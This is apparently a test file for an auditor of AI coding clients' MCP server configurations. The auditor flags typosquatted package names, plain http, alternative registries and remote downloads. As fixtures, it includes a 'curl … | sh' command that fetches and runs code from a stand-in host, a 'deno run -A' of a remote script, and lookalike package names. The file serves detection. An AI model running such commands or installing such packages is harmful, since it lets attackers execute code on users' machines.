import { describe, expect, test } from 'vitest';
import { type ConfigurationText, readDocument } from '../clients/read-document.ts';
import { defaultRegistry } from '../configuration/default-registry.ts';
import { audit, exitCodeOf, isDangerous } from './audit.ts';
import { KNOWN } from './configurations.fixture.ts';
import type { Danger } from './danger.ts';
import { serversOfLists } from './listed-server.ts';

/** A server as clients write it; `env` of one with a command. */
interface Entry {
  readonly command?: string;
  readonly args?: readonly string[];
  readonly env?: Readonly<Record<string, string>>;
  readonly url?: string;
}

/** What starts a server, and the danger of it; null where it is unknown and no more. */
const ENTRIES: readonly (readonly [string, Entry, Danger['kind'] | null])[] = [
  ['a repository of a stranger', { command: 'npx', args: ['-y', 'github:stranger/fx-mcp-server'] }, null],
  [
    'a repository of a stranger, by uvx',
    { command: 'uvx', args: ['--from', 'git+https://github.com/stranger/mail', 'mail-mcp'] },
    null,
  ],
  ['a program of this machine', { command: './fx-mcp-server' }, null],
  ['a package that nobody recorded', { command: 'npx', args: ['-y', 'something-else'] }, null],
  ['an address that nobody recorded', { url: 'http://tools.example/mcp' }, null],
  [
    'another registry, for a name that nobody recorded',
    { command: 'npx', args: ['--registry', 'https://npm.example', 'something-else'] },
    null,
  ],
  [
    'the default registry, by an option',
    { command: 'npx', args: [`--registry=${defaultRegistry('npm')}/`, 'fx-mcp-server'] },
    null,
  ],
  ['another option', { command: 'npx', args: ['--prefix=./tools', 'fx-mcp-server'] }, null],
  ['a slip of npm', { command: 'npx', args: ['-y', 'fx-mcp-servr'] }, 'imitates'],
  ['two slips in a short name', { command: 'uvx', args: ['ma1l-mpc'] }, null],
  ['a slip of PyPI', { command: 'uvx', args: ['mai1-mcp'] }, 'imitates'],
  ['a slip of an image', { command: 'docker', args: ['run', '-i', 'ghcr.io/exampel/fx'] }, 'imitates'],
  ['http for https', { url: 'http://fx.example.com/mcp' }, 'unencrypted'],
  [
    'http for https, by a proxy',
    { command: 'npx', args: ['-y', 'mcp-remote', 'http://fx.example.com/mcp'] },
    'unencrypted',
  ],
  [
    'another registry',
    { command: 'npx', args: ['--registry', 'https://npm.example', 'fx-mcp-server@1.2.0'] },
    'registry',
  ],
  ['another index', { command: 'uvx', args: ['--index-url', 'https://pypi.example', 'Mail_MCP==1.0'] }, 'registry'],
  [
    'another registry, before the word that runs',
    { command: 'pnpm', args: ['--registry=https://npm.example', 'dlx', 'fx-mcp-server'] },
    'registry',
  ],
  ['packages of a folder', { command: 'uvx', args: ['-f', './wheels', 'mail-mcp'] }, 'registry'],
  [
    'another index, inside an option',
    { command: 'pipx', args: ['run', '--pip-args=--index-url=https://pypi.example', 'mail-mcp'] },
    'registry',
  ],
  [
    'another registry, by yarn’s variable',
    { command: 'yarn', args: ['dlx', 'fx-mcp-server'], env: { YARN_NPM_REGISTRY_SERVER: 'https://npm.example' } },
    'registry',
  ],
  ['a program of this machine with words like these', { command: './x', args: ['--index', 'a', 'mail-mcp'] }, null],
  ['a script at an address', { command: 'deno', args: ['run', '-A', 'https://files.example/server.ts'] }, 'downloads'],
  [
    'another registry, by a variable',
    { command: 'npx', args: ['fx-mcp-server'], env: { NPM_CONFIG_REGISTRY: 'http://npm.example' } },
    'registry',
  ],
  [
    'another registry, by a variable before the command',
    { command: 'env', args: ['UV_DEFAULT_INDEX=https://pypi.example', 'uvx', 'mail-mcp'] },
    'registry',
  ],
  [
    'a download that runs, before the server',
    { command: 'sh', args: ['-c', 'curl -s https://files.example/x | sh; npx fx-mcp-server'] },
    'downloads',
  ],
];

/** Clients, and their files: with no line, with one that asks for all, with one that keeps the server out. */
type Files = (entry: Entry) => readonly ConfigurationText[];
const json = (name: string, value: unknown): ConfigurationText => ({ name, text: JSON.stringify(value) });
const list = (name: string, entry: object, more: object = {}) => json(name, { mcpServers: { x: entry }, ...more });
const http = (entry: Entry) => (entry.url === undefined ? entry : { type: 'http', ...entry });
const httpUrl = ({ url, ...entry }: Entry) => (url === undefined ? entry : { httpUrl: url });
const toml = (entry: Entry, more: string): ConfigurationText => ({
  name: '.codex/config.toml',
  text: `[mcp_servers.x]\n${Object.entries(entry)
    .filter(([member]) => member !== 'env')
    .map(([member, value]) => `${member} = ${JSON.stringify(value)}\n`)
    .join('')}${more}\n${Object.entries(entry.env ?? {})
    .map(([name, value]) => `[mcp_servers.x.env]\n${name} = ${JSON.stringify(value)}\n`)
    .join('')}`,
});
const opencode = ({ url, command = '', args = [], env }: Entry, more: object, own: object = {}) =>
  json('opencode.json', {
    mcp: {
      x:
        url === undefined
          ? { type: 'local', command: [command, ...args], ...(env === undefined ? {} : { environment: env }), ...own }
          : { type: 'remote', url, ...own },
    },
    ...more,
  });
const settings = (value: object) => json('.claude/settings.json', value);
const policy = {
  name: '/home/me/.gemini/policies/a.toml',
  text: '[[rule]]\nmcpName = "x"\ntoolName = "*"\ndecision = "ask_user"\npriority = 100\n',
};

const CLIENTS: Readonly<Record<string, { none: Files; asked?: Files; out?: Files }>> = {
  'claude-code': {
    none: (entry) => [list('.mcp.json', http(entry))],
    asked: (entry) => [list('.mcp.json', http(entry)), settings({ permissions: { ask: ['mcp__x'] } })],
    out: (entry) => [list('.mcp.json', http(entry)), settings({ deniedMcpServers: [{ serverName: 'x' }] })],
  },
  codex: {
    none: (entry) => [toml(entry, '')],
    asked: (entry) => [toml(entry, 'default_tools_approval_mode = "prompt"')],
    out: (entry) => [toml(entry, 'enabled = false')],
  },
  'gemini-cli': {
    none: (entry) => [list('.gemini/settings.json', httpUrl(entry))],
    asked: (entry) => [list('.gemini/settings.json', httpUrl(entry)), policy],
    out: (entry) => [list('.gemini/settings.json', httpUrl(entry), { mcp: { excluded: ['x'] } })],
  },
  opencode: {
    none: (entry) => [opencode(entry, {})],
    asked: (entry) => [opencode(entry, { permission: { '*': 'ask' } })],
    out: (entry) => [opencode(entry, {}, { enabled: false })],
  },
  'copilot-cli': {
    none: (entry) => [list('.copilot/mcp-config.json', http(entry))],
    // It has no line that asks for all; a list of one tool leaves all others out.
    asked: (entry) => [list('.copilot/mcp-config.json', { ...http(entry), tools: ['one'] })],
  },
  cursor: { none: (entry) => [list('.cursor/mcp.json', entry)] },
  vscode: { none: (entry) => [json('.vscode/mcp.json', { servers: { x: http(entry) } })] },
  'claude-desktop': { none: (entry) => [list('claude_desktop_config.json', http(entry))] },
};

function answerOf(files: readonly ConfigurationText[]) {
  const answer = audit(files.map(readDocument), KNOWN);
  const [server] = answer.clients.flatMap(({ servers }) => servers);
  return { answer, server, client: answer.clients[0]?.client };
}

describe.each(Object.entries(CLIENTS))('%s', (client, { none, asked, out }) => {
  test.each(ENTRIES)('%s: only what keeps a danger from loading controls it', (_, entry, danger) => {
    const open = answerOf(none(entry));
    expect([open.client, open.server?.match, open.server?.danger?.kind ?? null]).toEqual([client, null, danger]);
    expect(exitCodeOf(open.answer, 'high', false)).toBe(1);
    // Where nobody knows its tools, nobody can say that one is critical.
    expect(exitCodeOf(open.answer, 'critical', false)).toBe(0);
    if (asked !== undefined) {
      const { answer, server } = answerOf(asked(entry));
      expect(server?.unrecorded.effect).toMatch(/^(?:asked|hidden)$/);
      expect(exitCodeOf(answer, 'high', false)).toBe(danger === null ? 0 : 1);
    }
    if (out !== undefined) {
      const { answer, server } = answerOf(out(entry));
      expect(server && isDangerous(server)).toBe(false);
      expect(exitCodeOf(answer, 'high', false)).toBe(0);
    }
  });
});

test('a list of its tools that was given along does not make a danger safe', () => {
  const files = [
    list('.mcp.json', { command: 'npx', args: ['-y', 'fx-mcp-servr'] }),
    settings({ permissions: { ask: ['mcp__x'] } }),
    json('x.json', {
      tools: [{ name: 'get_thing', description: 'Returns one thing.', inputSchema: { type: 'object' } }],
    }),
  ].map(readDocument);
  const answer = audit(files, KNOWN, serversOfLists(files));
  expect(answer.clients[0]?.servers[0]?.match?.by).toBe('list');
  expect(exitCodeOf(answer, 'high', false)).toBe(1);
});
